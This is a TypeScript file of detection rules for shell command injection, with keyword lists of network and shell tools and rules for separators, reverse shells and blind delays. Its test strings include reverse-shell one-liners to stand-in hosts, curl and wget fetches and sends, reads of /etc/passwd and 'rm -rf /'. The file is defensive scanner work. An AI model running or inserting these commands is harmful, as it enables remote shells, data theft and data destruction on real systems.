/** Command injection: commands behind a separator. */
import { oneArgument } from '../context.ts'
import type { Pattern } from '../pattern.ts'
import {
  any,
  border,
  digits,
  edge,
  gap,
  letters,
  maybe,
  not,
  phrases,
  quote,
  run,
  space,
  type Token,
  within,
  word,
  words,
} from '../tokens.ts'

const category = 'rce'
const severity = 'critical'
/** Folders in front of the name of a program. */
const folders: Token = maybe(
  maybe('/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
)
/** Not the fence of a code block in Markdown, with the name of its language: ```` ```bash ````. */
const tick: Token = [not([border, '``']), '`']
const line: Token = [not([border, '```', run('a-z0-9', 0, 12)]), any('\n', '\r')]
/**
 * What separates commands, with what may stand around it. `&` and `|` with a space on both sides stand between words, too, so
 * they count only behind something that is no word.
 */
const separator: Token = any(
  [any('&&', ';', '||', '$(', tick, line, '<(', '>('), run(' \t{(', 0, 4)],
  [any('$(', tick, line), run(' \t', 0, 4)],
  [any('|', '&'), run('{(', 0, 2)],
  [any(border, run('^a-z \t', 1)), space, any('|', '&'), run(' \t{', 0, 4)],
)
/** Quotes, `\` against aliases, `/usr/bin/` and the like. */
const leading: Token = [maybe(run(`'"\\`, 1, 2)), folders]
/** Behind an argument without spaces, a separator and the command: a break-out. */
const smuggled: readonly Token[] = [
  oneArgument,
  maybe(run(`'")`, 0, 3)),
  run(' \t', 0, 8),
  separator,
  maybe(any('sudo', 'exec', 'env', 'nohup', 'time', 'command', 'busybox'), gap),
  leading,
]
/** The same without regard to what the text before looks like. */
const separated: readonly Token[] = [separator, leading]
/** What an argument of a command looks like, and an English word does not. */
const argument: Token = [
  maybe(quote),
  any(
    [
      gap,
      maybe(quote),
      any(
        ['-', run('a-z0-9-', 1)],
        ...words('/ $ ~ * " \\ < > | % {'),
        ["'"],
        ['.', run('./a-z', 1)],
        [
          run('0-9', 1, 6),
          any(border, ['.', run('0-9', 1)], [space, any('>', '|', ';', '&', '`', ')', '<', '#')]),
        ],
        [word, any('.', '/', ':', '=', '\\', '@', '-'), run('a-z0-9/\\*$', 1)],
      ),
    ],
    // A bar with a space in front of it is the border of a cell in Markdown.
    ['|'],
    [space, any(';', '&', '>', '<', '`', ')', '#', '}', '$', '\n')],
    ['{', run('^\n', 1)],
    // Followed by another operator of the shell: no sentence goes on like that.
    [
      gap,
      run('^ \t\n;|&<>', 1, 80),
      run(' \t', 0, 4),
      any(['|', space, letters], ['&&', space, letters], ['>', space, run('/a-z&', 1)]),
    ],
  ),
]
const alone: Token = [maybe(quote), space, border]

export const rceCommands: readonly Pattern[] = [
  {
    id: 'rce-fetch-command',
    category,
    severity,
    message: 'A command that fetches or sends data, behind a separator',
    score: 5,
    literals: words(`
      wget curl nslookup dig ftp tftp scp rsync lynx fetch host ncat netcat nc socat telnet ssh ping ping6
      traceroute getent aria2c axel lwp-request lwp-download certutil bitsadmin openssl
    `),
    before: smuggled,
    after: [edge, argument],
    match: [
      ';wget http://h/x.sh',
      '127.0.0.1|curl -d @f h.example',
      '`nslookup a.b`',
      '$(ping -c 1 h)',
      'x\nnc -e /bin/sh h 1',
    ],
    pass: ['curl and divergence', 'cats & dig deep', 'nc 8000 controller', 'use wget; curl is fine'],
  },
  {
    id: 'rce-read-command',
    category,
    severity,
    message: 'A command that reads or lists files, behind a separator',
    score: 5,
    literals: words(`
      cat tac head tail less more nl od xxd strings ls dir find grep egrep awk gawk sed cut sort rev base64
      base32 hexdump cp mv rm chmod chown touch tee dd tar zip unzip gzip diff file stat du df mount ln
      mkdir rmdir cd pwd type printf echo xargs tr wc paste split vim vi nano ed busybox kill killall pkill
    `),
    before: smuggled,
    // `;base64,` is part of a data: address.
    after: [not(','), edge, argument],
    match: ['; cat /etc/passwd', '|ls -la', 'x;rm -rf /', '$(printf %s)', '`cat f.txt`'],
    pass: [
      'data:image/png;base64,iVBORw0KGgo/wl25+a=',
      'fish & cat food',
      'more; less is fine',
      'a|b',
      'sort&find=1',
      'x;type=a',
    ],
  },
  {
    id: 'rce-ask-command',
    category,
    severity,
    message: 'A command that tells about the system, behind a separator',
    score: 5,
    literals: words(`
      id whoami uname hostname ifconfig ipconfig netstat ps env printenv systeminfo tasklist uptime
      lsb_release w who groups arp route ss ip lsof crontab sudo su passwd useradd adduser set export dpkg
      rpm apt yum getfacl ver shutdown reboot halt poweroff sleep timeout pwd ls dir date
    `),
    before: smuggled,
    after: [edge, any(argument, alone)],
    match: [';id', '|whoami', '`id`', '$(uname -a)', '127.0.0.1;ls', '& dir', 'x;sleep 5'],
    pass: ['a&id=5', 'who; id like to', 'provided', 'text/html;version=1', 'x;w=1'],
  },
  {
    id: 'rce-run-command',
    category,
    severity,
    message: 'A shell or interpreter started behind a separator',
    score: 5,
    literals: words(`
      bash sh zsh ksh csh tcsh dash ash python python2 python3 perl ruby php node nodejs lua tclsh java gcc
      cc make cmd cmd.exe powershell powershell.exe pwsh mshta rundll32 regsvr32 wscript cscript wmic net sc
      schtasks msiexec at nohup exec eval source screen tmux expect osascript start call forfiles       del echo
    `),
    before: smuggled,
    after: [edge, argument],
    match: ['|bash -i', ";python -c 'x'", '& cmd /c dir', '; php -r x', 'a && powershell -enc AAAA', '| sh;'],
    pass: [
      'zsh is the best!',
      'bash; sh and others',
      'R & node.',
      'net & gross',
      '```bash\n$ npm install x\n```',
      '```bash\nnode ./example.js\n```',
    ],
  },
  {
    id: 'rce-command-in-text',
    category,
    severity: 'high',
    message: 'A command with an argument behind a separator, in running text',
    score: 2,
    aggressive: 5,
    literals: words(`
      wget curl cat bash sh nc rm ls python perl php chmod whoami uname ping nslookup powershell cmd echo id
      tail sleep
    `),
    before: separated,
    after: [edge, argument],
    match: ['see here; cat /etc/passwd', 'use 5 | sh -x', 'do this && rm -rf /tmp/x'],
    pass: ['fish & cat food', 'sh is a shell'],
  },
  {
    id: 'rce-reverse-shell',
    category,
    severity,
    message: 'A shell connected to the network',
    score: 5,
    literals: phrases(`
      /dev/tcp/, /dev/udp/, bash -i, sh -i, nc -e, nc -l, ncat -e, nc.exe -e, mkfifo /tmp, mknod /tmp,
      pty.spawn, socket.socket(, fsockopen(, TCPSocket.new(, use Socket;, Net.Sockets.TCPClient
    `),
    before: [any(border, run('^a-z0-9_', 1), edge)],
    after: [
      any(
        [within(80, any('>&', '/bin/', 'exec', 'sh', 'dup2', 'connect', '0>&1', 'subprocess', digits), '\n')],
        border,
      ),
    ],
    match: [
      'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
      'nc -e /bin/sh 10.0.0.1 1',
      "import pty;pty.spawn('/bin/bash')",
    ],
    pass: ['the /dev/tcp device', 'a bashful -ice'],
  },
  {
    id: 'rce-delay',
    category,
    severity: 'high',
    message: 'A command that only waits: the question of a blind injection',
    score: 5,
    literals: ['sleep', 'ping -n', 'ping -c', 'timeout /t', 'timeout -t', 'usleep'],
    before: [any(';', '|', '&', '`', '$(', '\n', '||', '&&', '{'), space],
    after: [
      any(gap, '$IFS', '{', '${'),
      run('0-9', 1, 6),
      space,
      any(
        border,
        ';',
        '|',
        '&',
        '`',
        ')',
        '#',
        quote,
        '}',
        '\n',
        [run('0-9.', 1), any('.', border)],
        'localhost',
        '127.',
      ),
    ],
    match: ['x;sleep 10', '|ping -n 10 127.0.0.1', '& ping -c 5 127.0.0.1 &', '`sleep 5`'],
    pass: ['sleep 10 hours', 'go; sleep 8 hours', 'eat & sleep'],
  },
  {
    id: 'rce-tight-command',
    category,
    severity,
    message: 'A command with a word as its argument right behind a separator',
    score: 4,
    aggressive: 5,
    literals: words(`
      wget curl nslookup dig ping cat tac head tail ls rm cp mv chmod touch echo bash sh python perl php ruby nc type dir
      del net host getent whoami uname ifconfig ipconfig
    `),
    before: [
      any(
        [oneArgument, any('&&', '||', ';', '|', '&', '$(', '`', '\n')],
        [border, run('0-9.:', 1, 24), space, any('&&', '||', ';', '|', '&'), space],
      ),
      leading,
    ],
    after: [gap, word, space, any(border, ';', '|', '&', '`', ')', '>', '<', '#', quote)],
    match: [';cat index', '|type boot', '`wget host`', '127.0.0.1 && net user'],
    pass: ['; cat food', 'cats & dig deep', 'Home | Type here'],
  },
]
